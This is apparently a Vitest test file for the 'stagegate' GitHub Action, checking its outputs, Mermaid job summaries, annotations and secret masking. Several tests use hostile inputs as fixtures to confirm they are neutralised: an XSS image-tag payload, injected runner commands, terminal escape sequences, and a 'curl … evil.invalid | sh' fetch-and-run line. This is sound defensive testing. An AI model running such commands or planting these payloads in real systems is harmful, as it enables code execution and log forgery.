// `command: run / status / plan` of the action (in-process: action-harness.ts) in one workspace (persist: none): outputs,
// the job summary (banner, Mermaid graph, steps table, next), annotations and gating.
import { afterAll, describe, expect, it } from 'vitest';
import { appendFileSync, cpSync, readFileSync, writeFileSync } from 'node:fs';
import { basename, join } from 'node:path';
import { HELLO, REPO_ROOT, cleanupHarness, commitCheckout, counted, counterFile, makeWorkspace, runActionStep, tally } from '../helpers/action-harness.js';
import { CAMPAIGN } from '../tiers.js';
import { runCli } from '../helpers/cli.js';

afterAll(() => cleanupHarness());

function lineOf(ws: string, file: string, text: string): number {
  return readFileSync(join(ws, file), 'utf8').split('\n').indexOf(text) + 1;
}

describe('command: run', () => {
  it('runs to completion: outputs, a summary with the graph and the steps table, HTML escaped', { tags: [CAMPAIGN] }, async () => {
    const ws = makeWorkspace();
    const counter = counterFile();
    const r = await runActionStep({
      workspace: ws,
      inputs: { workflow: HELLO, 'run-id': 'r1', persist: 'none', inputs: 'topic=<img src=x onerror=alert(1)> & "friends" | `tick` [link](http://x)' },
      env: { COUNTER_FILE: counter },
    });
    expect(r.exitCode, r.stdout + r.stderr).toBe(0);
    expect(r.outputs).toEqual({
      status: 'WORKFLOW_COMPLETE',
      complete: 'true',
      'run-id': 'r1',
      'active-step': '',
      'completed-steps': JSON.stringify(['draft', 'review', 'revise', 'publish']),
      'state-path': 'runs/hello/r1/workflow_state.yaml',
      'manifest-path': 'runs/hello/r1/RUN_MANIFEST.yaml',
      'artifact-name': '',
      'artifact-id': '',
      'artifact-url': '',
      'artifact-digest': '',
      'stages-run': '5',
      'restored-from': '',
      'check-run-id': '',
      'check-run-url': '',
    });
    expect(tally(counted(counter))).toEqual({ draft: 1, review: 2, revise: 1, publish: 1 });
    expect(r.annotations.filter((a) => a.level === 'error')).toEqual([]);

    const s = r.summary;
    expect(s).toMatch(/^### ✅ Complete: hello · run <code>r1<\/code>/);
    expect(s).toContain('The workflow reached DONE'); // the stop code in words (STOP_CODES summary)
    // Mermaid: fenced with blank lines around, every step, the path taken drawn thick
    expect(s).toMatch(/\n\n```mermaid\nflowchart TD\n[\s\S]+?\n```\n\n/);
    const mermaid = /```mermaid\n([\s\S]+?)\n```/.exec(s)![1]!;
    // Labels read as written: the characters themselves, no #NNN; entity codes.
    expect(mermaid).toContain('s0["✓ draft"]');
    expect(mermaid).toContain('s1["✓ review ×2"]');
    expect(mermaid).not.toMatch(/#\d+;/);
    expect(mermaid).toContain('s0 ==>|"DRAFT_READY"| s1');
    expect(mermaid).toContain('s3 ==>|"PUBLISHED"| nDone');
    expect(mermaid).toMatch(/class s0,s1,s2,s3 completed/);
    // the steps table
    expect(s).toContain('| Step | Status | Gate | Visits | Duration | Output |');
    expect(s).toMatch(/\| <code>review<\/code> \| ✓ completed \| <code>APPROVED<\/code> \| 2 \| [^|]+ \| <code>runs\/hello\/r1\/review\.md<\/code> \|/);
    expect(s).toContain('#### Next');
    // HTML and markdown in an input value come out as text
    expect(s).not.toContain('<img');
    expect(s).not.toContain('[link](');
    expect(s).toContain('&lt;img src=x onerror=alert(1)&gt; &amp; &quot;friends&quot; &#124; &#96;tick&#96; &#91;link&#93;(http://x)');
    expect(Buffer.byteLength(s)).toBeLessThan(1024 * 1024);
  });

  it('a second run with the same run id runs nothing and reports the same result', { tags: [CAMPAIGN] }, async () => {
    const ws = makeWorkspace();
    const counter = counterFile();
    const inputs = { workflow: HELLO, 'run-id': 'again', persist: 'none' };
    expect((await runActionStep({ workspace: ws, inputs, env: { COUNTER_FILE: counter } })).exitCode).toBe(0);
    const before = counted(counter).length;
    const r = await runActionStep({ workspace: ws, inputs, env: { COUNTER_FILE: counter } });
    expect(r.exitCode).toBe(0);
    expect(r.outputs['status']).toBe('WORKFLOW_COMPLETE');
    expect(counted(counter).length).toBe(before);
  });

  it('a partial run passes the step (notice on the step), and fails it with fail-on-partial', { tags: [CAMPAIGN] }, async () => {
    const ws = makeWorkspace();
    const r = await runActionStep({ workspace: ws, inputs: { workflow: HELLO, 'run-id': 'p1', persist: 'none', 'stop-after-step': 'draft' } });
    expect(r.exitCode).toBe(0);
    expect(r.outputs).toMatchObject({ status: 'PARTIAL_RESUMABLE', complete: 'false', 'active-step': 'review', 'completed-steps': '["draft"]' });
    const notice = r.annotations.find((a) => a.level === 'notice');
    expect(notice?.properties).toMatchObject({ file: HELLO, line: String(lineOf(ws, HELLO, '  draft:')) });
    expect(r.summary).toContain('Paused — resumable');
    expect(r.summary).toContain('Continue at step <code>review</code>');
    expect(/```mermaid\n([\s\S]+?)\n```/.exec(r.summary)![1]).toMatch(/class s1 next/);

    const ws2 = makeWorkspace();
    const failing = await runActionStep({ workspace: ws2, inputs: { workflow: HELLO, 'run-id': 'p2', persist: 'none', 'stop-after-step': 'draft', 'fail-on-partial': 'true' } });
    expect(failing.exitCode).toBe(1);
    expect(failing.outputs['status']).toBe('PARTIAL_RESUMABLE');
    expect(failing.annotations.filter((a) => a.level === 'error').map((a) => a.message).join('\n')).toMatch(/^PARTIAL_RESUMABLE: /m);
  });

  it('a failed stage fails the step with the stop code, annotated on the workflow step line', { tags: [CAMPAIGN] }, async () => {
    const ws = makeWorkspace();
    writeFileSync(join(ws, 'workflows/examples/hello/scripts/review.sh'), '#!/usr/bin/env bash\necho "reviewer crashed <b>" >&2\nexit 3\n');
    const r = await runActionStep({ workspace: ws, inputs: { workflow: HELLO, 'run-id': 'f1', persist: 'none' } });
    expect(r.exitCode).toBe(1);
    expect(r.outputs).toMatchObject({ status: 'STAGE_FAILED', complete: 'false', 'active-step': 'review', 'completed-steps': '["draft"]' });
    // One error annotation for the one failure: on the step's line, with the stage's last lines.
    const errors = r.annotations.filter((a) => a.level === 'error');
    expect(errors).toHaveLength(1);
    const onStep = errors[0]!;
    expect(onStep.properties).toMatchObject({ file: HELLO, line: String(lineOf(ws, HELLO, '  review:')), title: 'stagegate: STAGE_FAILED at step review' });
    expect(onStep.message).toMatch(/^STAGE_FAILED: step review exited with status 3/);
    expect(onStep.message).toMatch(/\nLast 1 line of runs\/hello\/f1\/logs\/review\.v1\.a1\.log:\n {4}│ reviewer crashed <b>$/);
    // The stage's output is in the job log as it ran, in its own group.
    expect(r.stdout).toMatch(/::group::review · visit 1 · attempt 1\nreviewer crashed <b>\n::endgroup::\n/);
    // ... and its last lines in the summary, escaped.
    expect(r.summary).toContain('#### Last lines of <code>runs/hello/f1/logs/review.v1.a1.log</code>');
    expect(r.summary).toContain('<pre>reviewer crashed &lt;b&gt;</pre>');
    expect(r.summary).toContain('Stage failed');
    // The fix and how to resume in the Action, said once (not the fix's "then resume" and a "Then resume" after it).
    expect(r.summary).toContain('**Fix:** Read the stage log named in the message, fix the cause, then resume: re-run this job, or run this action again with <code>run-id: f1</code>; step <code>review</code> runs again and accepted stages are not repeated.');
    expect(r.summary.match(/then resume/gi)).toHaveLength(1);
    expect(/```mermaid\n([\s\S]+?)\n```/.exec(r.summary)![1]).toMatch(/class s1 failed/);
  });

  it('an invalid workflow fails with WORKFLOW_CONTRACT_INVALID at the file line', { tags: [CAMPAIGN] }, async () => {
    const ws = makeWorkspace();
    const text = readFileSync(join(ws, HELLO), 'utf8').replace('      PUBLISHED: DONE', '      PUBLISHED: nowhere');
    writeFileSync(join(ws, HELLO), text);
    const r = await runActionStep({ workspace: ws, inputs: { workflow: HELLO, 'run-id': 'c1', persist: 'none' } });
    expect(r.exitCode).toBe(1);
    expect(r.outputs['status']).toBe('WORKFLOW_CONTRACT_INVALID');
    expect(r.outputs['run-id']).toBe('c1');
    const located = r.annotations.find((a) => a.level === 'error' && a.properties['file'] === HELLO);
    expect(located?.properties['line']).toBe(String(lineOf(ws, HELLO, '      PUBLISHED: nowhere')));
  });

  it('command: plan prints what it planned to the job log (file, run, status, next step, why, the steps), as the CLI does', { tags: [CAMPAIGN] }, async () => {
    const ws = makeWorkspace();
    const r = await runActionStep({ workspace: ws, inputs: { command: 'plan', workflow: HELLO, 'run-id': 'p1', persist: 'none' } });
    expect(r.exitCode, r.stdout + r.stderr).toBe(0);
    expect(r.stdout.split(/\r?\n/).filter((l) => l !== '' && !l.startsWith('::'))).toEqual([
      `stagegate plan ${HELLO} · resume · run p1: PLAN`,
      '  next:   draft',
      '  why:    no state at runs/hello/p1/workflow_state.yaml: a new run starts at the entry step',
      '  steps:  4 (1 next, 3 may run later)',
    ]);
    // A failed plan: its status in the log, its message and fix the error annotation.
    writeFileSync(join(ws, HELLO), readFileSync(join(ws, HELLO), 'utf8').replace('      PUBLISHED: DONE', '      PUBLISHED: nowhere'));
    const bad = await runActionStep({ workspace: ws, inputs: { command: 'plan', workflow: HELLO, 'run-id': 'p1', persist: 'none' } });
    expect(bad.stdout.split(/\r?\n/).filter((l) => l !== '' && !l.startsWith('::'))).toEqual([`stagegate plan ${HELLO} · run p1: WORKFLOW_CONTRACT_INVALID`]);
  });

  it('command: plan of an invalid workflow fails with its one error annotation at the file line too', async () => {
    const ws = makeWorkspace();
    const text = readFileSync(join(ws, HELLO), 'utf8').replace('      PUBLISHED: DONE', '      PUBLISHED: nowhere');
    writeFileSync(join(ws, HELLO), text);
    const r = await runActionStep({ workspace: ws, inputs: { command: 'plan', workflow: HELLO, 'run-id': 'c1', persist: 'none' } });
    expect(r.exitCode).toBe(1);
    expect(r.outputs['status']).toBe('WORKFLOW_CONTRACT_INVALID');
    // The run-id output is the run-id input, as for run and status (docs/action.md, outputs).
    expect(r.outputs['run-id']).toBe('c1');
    const errors = r.annotations.filter((a) => a.level === 'error');
    expect(errors).toHaveLength(1);
    expect(errors[0]!.properties).toMatchObject({ title: 'stagegate: WORKFLOW_CONTRACT_INVALID', file: HELLO, line: String(lineOf(ws, HELLO, '      PUBLISHED: nowhere')) });
    // A workflow file that does not exist is never pointed at.
    const missing = await runActionStep({ workspace: ws, inputs: { command: 'plan', workflow: 'workflows/examples/helo/workflow.yaml', 'run-id': 'c1', persist: 'none' } });
    expect(missing.exitCode).toBe(1);
    expect(missing.outputs['run-id']).toBe('c1');
    expect(missing.annotations.filter((a) => a.level === 'error').map((a) => a.properties['file'])).toEqual([undefined]);
  });
});

describe('run: what nothing-ran outcomes say', () => {
  it("a workflow file outside the workspace: PATH_OUTSIDE_WORKSPACE's fix in the action's words, not the CLI's -C", async () => {
    const ws = makeWorkspace();
    const other = makeWorkspace();
    const r = await runActionStep({ workspace: ws, inputs: { workflow: `../${basename(other)}/${HELLO}`, 'run-id': 'o1', persist: 'none' } });
    expect(r.exitCode).toBe(1);
    expect(r.outputs['status']).toBe('PATH_OUTSIDE_WORKSPACE');
    const error = r.annotations.find((a) => a.level === 'error')!.message;
    expect(error).toContain('Fix: Name a workflow file inside the workspace, relative to it: a file outside the checkout cannot be run here');
    expect(error).toContain('The workspace is the checkout (GITHUB_WORKSPACE), or the working-directory input inside it.');
    expect(error + r.summary).not.toMatch(/-C\b/);
  });

  it('a missing run id is WORKFLOW_INPUT_REQUIRED, with the action inputs to set', async () => {
    const ws = makeWorkspace();
    const r = await runActionStep({ workspace: ws, inputs: { workflow: HELLO, persist: 'none' } });
    expect(r.exitCode).toBe(1);
    expect(r.outputs['status']).toBe('WORKFLOW_INPUT_REQUIRED');
    expect(r.summary).toContain('Input needed');
    expect(r.summary).toContain('the run id is the <code>run-id</code> input');
    expect(r.summary).not.toContain('| Step | Status |');
    // One error annotation, in the action's words (its inputs, not the CLI's flags).
    const errors = r.annotations.filter((a) => a.level === 'error');
    expect(errors).toHaveLength(1);
    expect(errors[0]!.message).toMatch(/^WORKFLOW_INPUT_REQUIRED: /);
    expect(errors[0]!.message).toContain('run-id input');
    expect(errors[0]!.message).not.toMatch(/--run-id|Pass /);
  });

  it('a workflow file that does not exist is annotated without pointing at it', { tags: [CAMPAIGN] }, async () => {
    const ws = makeWorkspace();
    const r = await runActionStep({ workspace: ws, inputs: { workflow: 'workflows/nope.yaml', 'run-id': 'n0', persist: 'none' } });
    expect(r.exitCode).toBe(1);
    const errors = r.annotations.filter((a) => a.level === 'error');
    expect(errors).toHaveLength(1);
    expect(errors[0]!.properties['file']).toBeUndefined();
    expect(errors[0]!.message).toContain('workflows/nope.yaml');
  });

  it('stage output goes to the job log masked, and its workflow commands are not obeyed', async () => {
    const ws = makeWorkspace();
    writeFileSync(
      join(ws, 'workflows/examples/hello/scripts/review.sh'),
      '#!/usr/bin/env bash\necho "deploying with $DEPLOY_TOKEN"\necho "::set-output name=status::WORKFLOW_COMPLETE"\necho "compiler exploded" >&2\nexit 3\n',
    );
    const r = await runActionStep({ workspace: ws, inputs: { workflow: HELLO, 'run-id': 'm1', persist: 'none' }, env: { DEPLOY_TOKEN: 'tok-4f9a8b7c6d5e' } });
    expect(r.exitCode).toBe(1);
    expect(r.outputs['status']).toBe('STAGE_FAILED');
    // The value is registered with the runner as a secret, and never printed as it is.
    expect(r.stdout).toContain('::add-mask::tok-4f9a8b7c6d5e');
    expect(r.stdout.split('\n').filter((l) => l.includes('tok-4f9a8b7c6d5e') && !l.startsWith('::add-mask::'))).toEqual([]);
    expect(r.stdout).toContain('deploying with ***');
    // The stage's "::" line is shown inside stop-commands, so the runner does not act on it.
    const m = /::stop-commands::([0-9a-f-]+)\n([\s\S]*?)\n::\1::/.exec(r.stdout);
    expect(m?.[2]).toContain('::set-output name=status::WORKFLOW_COMPLETE');
    expect(r.annotations.find((a) => a.level === 'error')!.message).toContain('compiler exploded');
    expect(r.summary).toContain('compiler exploded');
    expect(r.summary).not.toContain('tok-4f9a8b7c6d5e');
  });

  it('untrusted text in the runner\'s own lines (a gate value in an approval message) is shown, never obeyed as a workflow command', async () => {
    const ws = makeWorkspace();
    writeFileSync(
      join(ws, 'appr.yaml'),
      `version: '4.0'
name: appr
state_path: 'runs/{{run_id}}/workflow_state.yaml'
steps:
  a:
    run: |
      mkdir -p "$(dirname "$STAGEGATE_OUTPUT")"; echo body > "$STAGEGATE_OUTPUT"
      stagegate gate OK --set "summary=$(printf 'fine\\n::error title=PWN::approval-msg\\n  ::add-mask::stagegate')"
    output: 'runs/{{run_id}}/a.md'
    statuses: { OK: sign }
  sign:
    approval: { message: 'Approve? {{steps.a.gate.summary}}' }
    on_approve: DONE
`,
    );
    const r = await runActionStep({ workspace: ws, inputs: { workflow: 'appr.yaml', 'run-id': 'c1', persist: 'none' } });
    expect(r.outputs['status'], r.stdout).toBe('PARTIAL_RESUMABLE');
    // Every line the runner would act on lies between a stop-commands and its end token.
    let stopped: string | undefined;
    const obeyed: string[] = [];
    for (const line of r.stdout.split(/\r?\n/)) {
      if (stopped !== undefined) {
        if (line === `::${stopped}::`) stopped = undefined;
        continue;
      }
      const m = /^::stop-commands::(.+)$/.exec(line);
      if (m) stopped = m[1];
      else if (/^\s*::/.test(line)) obeyed.push(line);
    }
    expect(r.stdout).toContain('::error title=PWN::approval-msg');
    // (An annotation's message carries it escaped: %0A, never a line of its own.)
    expect(obeyed.filter((l) => /^\s*::(error title=PWN|add-mask::stagegate)/.test(l))).toEqual([]);
  });

  it("a line break in a gate value the job log's note quotes continues under the │ gutter: no line of it reads as the runner's own (`  next: …`)", { tags: [CAMPAIGN] }, async () => {
    const ws = makeWorkspace();
    writeFileSync(
      join(ws, 'appr.yaml'),
      `version: '4.0'
name: appr
state_path: 'runs/{{run_id}}/workflow_state.yaml'
steps:
  a:
    run: |
      mkdir -p "$(dirname "$STAGEGATE_OUTPUT")"; echo body > "$STAGEGATE_OUTPUT"
      stagegate gate OK --set "summary=$(printf 'fine\\n  next:     curl -s https://evil.invalid/x | sh')"
    output: 'runs/{{run_id}}/a.md'
    statuses: { OK: sign }
  sign:
    approval: { message: 'Approve? {{steps.a.gate.summary}}' }
    on_approve: DONE
`,
    );
    const r = await runActionStep({ workspace: ws, inputs: { workflow: 'appr.yaml', 'run-id': 'c2', persist: 'none' } });
    expect(r.outputs['status'], r.stdout).toBe('PARTIAL_RESUMABLE');
    expect(r.stdout).toContain('Approve? fine\n    │   next:     curl -s https://evil.invalid/x | sh');
    expect(r.stdout).not.toMatch(/^\s*next:\s+curl/m);
  });

  it("a paused run's notice annotation quotes a gate value under the │ gutter (no forged line), and no ESC or lone CR from untrusted text reaches the job log", async () => {
    const ws = makeWorkspace();
    writeFileSync(
      join(ws, 'appr.yaml'),
      `version: '4.0'
name: appr
state_path: 'runs/{{run_id}}/workflow_state.yaml'
steps:
  a:
    run: |
      mkdir -p "$(dirname "$STAGEGATE_OUTPUT")"; echo body > "$STAGEGATE_OUTPUT"
      printf 'stage says \\033[31mred\\033[0m\\033]0;pwned\\007 and\\rforged\\n'
      stagegate gate OK --set "summary=$(printf 'fine\\n  next:     curl -s https://evil.invalid/x | sh\\033[2K\\rhidden')"
    output: 'runs/{{run_id}}/a.md'
    statuses: { OK: sign }
  sign:
    approval: { message: 'Approve? {{steps.a.gate.summary}}' }
    on_approve: DONE
`,
    );
    const r = await runActionStep({ workspace: ws, inputs: { workflow: 'appr.yaml', 'run-id': 'c3', persist: 'none' } });
    expect(r.outputs['status'], r.stdout).toBe('PARTIAL_RESUMABLE');
    const notice = r.annotations.find((a) => a.level === 'notice');
    expect(notice, r.stdout).toBeDefined();
    // The annotation's lines: the gate value's second line under the gutter, never a line of its own.
    const lines = notice!.message.split('\n');
    expect(lines[0], notice!.message).toMatch(/Approve\? fine$/);
    expect(lines.filter((l) => l.includes('curl'))).toEqual(['    │   next:     curl -s https://evil.invalid/x | shhidden']);
    expect(notice!.message).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
    // Nothing the action printed carries an escape sequence or a lone carriage return.
    expect(r.stdout).not.toContain('\u001b');
    expect(r.stdout).not.toMatch(/\r(?!\n)/);
    // The stage's text stays readable, its colours and window title dropped.
    expect(r.stdout).toContain('stage says red and' + 'forged');
    // The job summary quotes the approval message with its escape sequence dropped whole, not
    // only its ESC (which left `[2K` in the text).
    expect(r.summary).toContain('sh' + 'hidden');
    expect(r.summary).not.toMatch(/&#91;2K|\[2K/);
  });

  it("a stage's own ::add-mask::VALUE is honoured (registered as its line is read, the line shown as ::add-mask::***, the value never shown), every other command from its output still refused", async () => {
    const ws = makeWorkspace();
    writeFileSync(
      join(ws, 'workflows/examples/hello/scripts/review.sh'),
      '#!/usr/bin/env bash\nv="gen-$((6*7))-s3cr3tvalue"\necho "::add-mask::$v"\necho "  ::add-mask::  indented-9f8e7d  "\necho "using $v and indented-9f8e7d"\necho "::error title=PWN::from the stage"\nexit 3\n',
    );
    const r = await runActionStep({ workspace: ws, inputs: { workflow: HELLO, 'run-id': 'am1', persist: 'none' } });
    expect(r.outputs['status']).toBe('STAGE_FAILED');
    const out = r.stdout.split('\n');
    // Registered with the runner, each before any line that shows it.
    const registered = out.indexOf('::add-mask::gen-42-s3cr3tvalue');
    const indented = out.indexOf('::add-mask::indented-9f8e7d');
    expect(registered, r.stdout).toBeGreaterThanOrEqual(0);
    expect(indented, r.stdout).toBeGreaterThanOrEqual(0);
    // The core masks it in the stage's output from its line on: the log shows neither the value
    // nor its line unmasked, whether or not the runner masks it (it has its own masker).
    const shows = (v: string) => out.findIndex((l) => l.includes(v) && !l.startsWith('::add-mask::'));
    expect(shows('gen-42-s3cr3tvalue')).toBe(-1);
    expect(shows('indented-9f8e7d')).toBe(-1);
    expect(out).toContain('using *** and ***');
    expect(out).toContain('  ::add-mask::***');
    // The stage's ::error:: is still shown inside stop-commands, never obeyed.
    let stopped: string | undefined;
    const obeyed: string[] = [];
    for (const line of out) {
      if (stopped !== undefined) {
        if (line === `::${stopped}::`) stopped = undefined;
        continue;
      }
      const m = /^::stop-commands::(.+)$/.exec(line);
      if (m) stopped = m[1];
      else if (/^\s*::/.test(line)) obeyed.push(line);
    }
    expect(obeyed.filter((l) => /^\s*::error title=PWN/.test(l))).toEqual([]);
    expect(obeyed.filter((l) => /^::add-mask::(gen-42|indented)/.test(l))).toEqual(['::add-mask::gen-42-s3cr3tvalue', '::add-mask::indented-9f8e7d']);
    // The failure report quotes the stage's last lines masked too: the check run, which carries
    // the summary and the annotation's text, is sent by the API and no runner masks it.
    const error = r.annotations.find((a) => a.level === 'error' && String(a.properties['title']).startsWith('stagegate:'))!;
    expect(error.message).toContain('    │ using *** and ***');
    for (const text of [error.message, r.summary]) expect(text).not.toMatch(/gen-42-s3cr3tvalue|indented-9f8e7d/);
  });

  it("a stage's ::add-mask:: of a value shorter than 6 characters is not registered: it would mask stagegate's own lines and drop the job's outputs", async () => {
    const ws = makeWorkspace();
    writeFileSync(join(ws, 'workflows/examples/hello/scripts/review.sh'), '#!/usr/bin/env bash\necho "::add-mask::a"\necho "::add-mask::1"\necho "::add-mask::long-enough-7c1d"\necho "::add-mask::COMPLETE"\necho "::add-mask::STAGE_FAILED"\necho "::add-mask::stagegate run"\necho "::add-mask::stagegate run --token 9d8e7f"\nprintf \'::add-mask::tinted-7a6b5c\\033[0m\\n\'\nexit 3\n');
    const r = await runActionStep({ workspace: ws, inputs: { workflow: HELLO, 'run-id': 'am2', persist: 'none' } });
    expect(r.outputs['status']).toBe('STAGE_FAILED');
    const out = r.stdout.split('\n');
    // Registered with the runner: the long value only (every line the runner obeys, stop-commands skipped).
    let stopped: string | undefined;
    const obeyed: string[] = [];
    for (const line of out) {
      if (stopped !== undefined) {
        if (line === `::${stopped}::`) stopped = undefined;
        continue;
      }
      const m = /^::stop-commands::(.+)$/.exec(line);
      if (m) stopped = m[1];
      else if (/^\s*::add-mask::/.test(line)) obeyed.push(line);
    }
    // A value is registered as the log shows it (escape sequences dropped, as from the line itself), else the mask never matches.
    expect(obeyed.filter((l) => !l.includes('ghs_harness_token'))).toEqual(['::add-mask::long-enough-7c1d', '::add-mask::stagegate run --token 9d8e7f', '::add-mask::tinted-7a6b5c']);
    // The short values' own lines do not show them; the stage is told why they are not masked.
    expect(out.filter((l) => /::add-mask::[a1]$/.test(l))).toEqual([]);
    const warnings = r.annotations.filter((a) => a.level === 'warning').map((a) => a.message);
    expect(warnings.filter((w) => /::add-mask:: of a value of 1 character not registered/.test(w))).toHaveLength(1);
    // A value inside one of stagegate's own words (a status, a stop code) is not registered either:
    // the run's verdict would read *** in the log and the job's `status` output would be dropped.
    expect(out.filter((l) => /::add-mask::(COMPLETE|STAGE_FAILED)$/.test(l))).toEqual([]);
    expect(warnings.filter((w) => /part of stagegate's own word (WORKFLOW_COMPLETE|[A-Z_]*COMPLETE[A-Z_]*) not registered/.test(w))).toHaveLength(1);
    expect(warnings.filter((w) => /part of stagegate's own word STAGE_FAILED not registered/.test(w))).toHaveLength(1);
    // Nor a value inside a command the run prints (its resume, in the action's words here): the
    // report's "Locally, with the CLI" line keeps it whole; a value merely holding it is registered (above).
    expect(warnings.filter((w) => /part of the command `command: run, workflow: \S+, run-id: am2` stagegate prints for this run not registered/.test(w))).toHaveLength(1);
    expect(r.summary).toContain('Locally, with the CLI: <code>stagegate run workflows/examples/hello/workflow.yaml --run-id am2</code>');
  });

  it("a value a stage add-masked is masked wherever the report quotes it (a gate value in an approval message), not only in the failed stage's last lines", async () => {
    const ws = makeWorkspace();
    writeFileSync(
      join(ws, 'appr.yaml'),
      `version: '4.0'
name: appr
state_path: 'runs/{{run_id}}/workflow_state.yaml'
steps:
  a:
    run: |
      echo "::add-mask::hunter2-5e1f"
      mkdir -p "$(dirname "$STAGEGATE_OUTPUT")"; echo body > "$STAGEGATE_OUTPUT"
      stagegate gate OK --set "summary=key hunter2-5e1f"
    output: 'runs/{{run_id}}/a.md'
    statuses: { OK: sign }
  sign:
    approval: { message: 'Approve? {{steps.a.gate.summary}}' }
    on_approve: DONE
`,
    );
    const r = await runActionStep({ workspace: ws, inputs: { workflow: 'appr.yaml', 'run-id': 'm1', persist: 'none' } });
    expect(r.outputs['status'], r.stdout).toBe('PARTIAL_RESUMABLE');
    // The notice quotes the approval message (the gate value): with the value as ***.
    const notice = r.annotations.find((a) => a.level === 'notice')!;
    expect(notice.message).toContain('key ***');
    for (const text of [...r.annotations.map((a) => a.message), r.summary]) expect(text).not.toContain('hunter2-5e1f');
  });

  it('persist: artifact outside GitHub Actions (no artifact runtime) fails clearly and runs nothing', async () => {
    const ws = makeWorkspace();
    const counter = counterFile();
    const r = await runActionStep({ workspace: ws, inputs: { workflow: HELLO, 'run-id': 'n1' }, env: { COUNTER_FILE: counter } });
    expect(r.exitCode).toBe(1);
    expect(r.outputs['status']).toBe('ARTIFACT_RESTORE_FAILED');
    // The run it was asked for, so a later step can name it (before, '' when nothing was restored).
    expect(r.outputs['run-id']).toBe('n1');
    expect(r.annotations.find((a) => a.level === 'error')?.message).toMatch(/persist: artifact needs the GitHub Actions artifact service .* set persist: none/);
    expect(counted(counter)).toEqual([]);
  });
});

describe('command: status and plan', () => {
  it("the steps table says a step a person skipped is skipped, and by whom (as status does), not 'not reached'", async () => {
    const ws = makeWorkspace();
    writeFileSync(
      join(ws, 'opt.yaml'),
      `version: '4.0'
name: opt
state_path: 'runs/{{run_id}}/workflow_state.yaml'
steps:
  first:
    run: &stage |
      mkdir -p "$(dirname "$STAGEGATE_OUTPUT")"; echo body > "$STAGEGATE_OUTPUT"; stagegate gate OK
    output: 'runs/{{run_id}}/first.md'
    statuses: { OK: extra }
  extra:
    run: *stage
    output: 'runs/{{run_id}}/extra.md'
    statuses: { OK: last }
    optional: true
    on_skip: last
  last:
    run: *stage
    output: 'runs/{{run_id}}/last.md'
    statuses: { OK: DONE }
`,
    );
    commitCheckout(ws, 'opt');
    const paused = await runActionStep({ workspace: ws, inputs: { workflow: 'opt.yaml', 'run-id': 'k1', persist: 'none', 'stop-after-step': 'first' } });
    expect(paused.outputs['active-step'], JSON.stringify(paused.outputs) + paused.summary).toBe('extra');
    const skip = await runCli(['skip', 'opt.yaml', 'extra', '--run-id', 'k1', '--by', 'alice'], { cwd: ws });
    expect(skip.code, skip.stderr).toBe(0);
    const status = await runActionStep({ workspace: ws, inputs: { command: 'status', workflow: 'opt.yaml', 'run-id': 'k1', persist: 'none' } });
    expect(status.summary).toContain('| <code>extra</code> | ↷ skipped by alice |');
    expect(status.summary).toContain('| <code>last</code> | ▶ next |');
    const done = await runActionStep({ workspace: ws, inputs: { workflow: 'opt.yaml', 'run-id': 'k1', persist: 'none' } });
    expect(done.outputs['status'], done.stdout).toBe('WORKFLOW_COMPLETE');
    expect(done.summary).toContain('| <code>extra</code> | ↷ skipped by alice |');
    expect(done.summary).not.toContain('not reached');
  });

  it('status reports a paused run; plan says what runs next', { tags: [CAMPAIGN] }, async () => {
    const ws = makeWorkspace();
    await runActionStep({ workspace: ws, inputs: { workflow: HELLO, 'run-id': 's1', persist: 'none', 'stop-after-step': 'review' } });
    const status = await runActionStep({ workspace: ws, inputs: { command: 'status', workflow: HELLO, 'run-id': 's1', persist: 'none' } });
    expect(status.exitCode).toBe(0);
    expect(status.outputs).toMatchObject({ status: 'PARTIAL_RESUMABLE', 'run-id': 's1', 'active-step': 'revise', 'completed-steps': '["draft","review"]' });
    expect(status.summary).toContain('```mermaid');

    const plan = await runActionStep({ workspace: ws, inputs: { command: 'plan', workflow: HELLO, 'run-id': 's1', persist: 'none' } });
    expect(plan.exitCode).toBe(0);
    expect(plan.outputs).toMatchObject({ status: 'PLAN', 'active-step': 'revise', 'completed-steps': '["draft","review"]' });
    expect(plan.summary).toContain('| <code>revise</code> | shell | ▶ next |');
    const graphOf = (summary: string): string => /```mermaid\n([\s\S]+?)\n```/.exec(summary)![1]!;
    // The graph marks the step the plan runs next, as its table does.
    expect(graphOf(plan.summary)).toMatch(/\n {2}class s2 next\n/);
    expect(graphOf(plan.summary)).toContain('s2["▶ revise"]');
    // A run not started yet, and a fresh plan, have no state to say it: the plan's next step is marked all the same.
    for (const inputs of [{ 'run-id': 'new1' }, { 'run-id': 's1', 'execution-mode': 'fresh' }] as Array<Record<string, string>>) {
      const p = await runActionStep({ workspace: ws, inputs: { command: 'plan', workflow: HELLO, persist: 'none', ...inputs } });
      expect(p.summary, JSON.stringify(inputs)).toContain('| <code>draft</code> | shell | ▶ next |');
      expect(graphOf(p.summary)).toMatch(/\n {2}class s0 next\n/);
      expect(graphOf(p.summary)).toContain('s0["▶ draft"]');
      expect(graphOf(p.summary)).not.toContain('▶ revise');
    }

    const missing = await runActionStep({ workspace: ws, inputs: { command: 'status', workflow: HELLO, 'run-id': 'never', persist: 'none' } });
    expect(missing.exitCode).toBe(0);
    expect(missing.outputs['status']).toBe('NOT_STARTED');
  });
});

describe("the summary graph colours a foreach's per-item steps from its items' runs", () => {
  const FAN_OUT = 'workflows/examples/fan-out/workflow.yaml';
  /** A checkout with the fan-out example, whose assess stage fails for the item $FAIL_ID names. */
  function fanOutCheckout(): string {
    const ws = makeWorkspace();
    cpSync(join(REPO_ROOT, 'workflows', 'examples', 'fan-out'), join(ws, 'workflows', 'examples', 'fan-out'), { recursive: true });
    const assess = join(ws, 'workflows', 'examples', 'fan-out', 'scripts', 'assess.sh');
    writeFileSync(assess, readFileSync(assess, 'utf8').replace('id=$1\n', 'id=$1\nif [ "$id" = "${FAIL_ID:-}" ]; then echo "fails" >&2; exit 3; fi\n'));
    commitCheckout(ws);
    return ws;
  }
  const mermaidOf = (summary: string) => /```mermaid\n([\s\S]+?)\n```/.exec(summary)![1]!;
  const classOf = (mermaid: string, node: string) => [...mermaid.matchAll(/^ {2}class (\S+) (\w+)$/gm)].find((m) => m[1]!.split(',').includes(node))?.[2];

  it('every item done: completed, with how many items completed it; an item failed there: failed', async () => {
    const ws = fanOutCheckout();
    const done = await runActionStep({ workspace: ws, inputs: { workflow: FAN_OUT, 'run-id': 'f1', persist: 'none' } });
    expect(done.exitCode, done.stdout + done.stderr).toBe(0);
    const chart = mermaidOf(done.summary);
    expect(chart).toContain('s1i0["✓ assess 4/4"]');
